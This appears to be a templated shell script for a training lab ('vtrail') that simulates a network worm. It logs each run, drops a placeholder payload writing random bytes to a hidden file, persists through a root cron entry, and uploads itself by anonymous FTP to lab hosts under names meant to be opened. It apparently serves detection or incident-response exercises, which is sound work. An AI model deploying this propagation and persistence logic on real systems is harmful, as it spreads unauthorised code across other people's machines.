#!/bin/sh
# The vtrail lab's worm (seed @SEED@). Each copy is these same bytes. It logs that it ran,
# drops a payload, persists through cron, and uploads itself over FTP to the hosts the
# lab's topology gives the host it runs on, under the name each target's user will open.
me=$(hostname)
log() {
	line="$(now) $*"
	echo "$line" >>/lab/log/worm.log
	echo "VTLAB worm $me $line"
}
log ran path=$0
printf '#!/bin/sh\nhead -c 64 /dev/urandom >/var/tmp/.beacon\n' >@PAYLOAD@
chmod 755 @PAYLOAD@
mkdir -p /etc/cron.d
echo "*/5 * * * * root @PAYLOAD@" >@ACTIVATION@
log persisted at=@ACTIVATION@
case "$me" in
@CASES@  *) targets="" ;;
esac
for t in $targets; do
	ip=${t%%:*}
	name=${t#*:}
	if ftpput -u anonymous -p worm@lab "$ip" "incoming/$name" "$0"; then
		log sent to=$ip name=$name
	else
		log send-failed to=$ip name=$name
	fi
done
log done
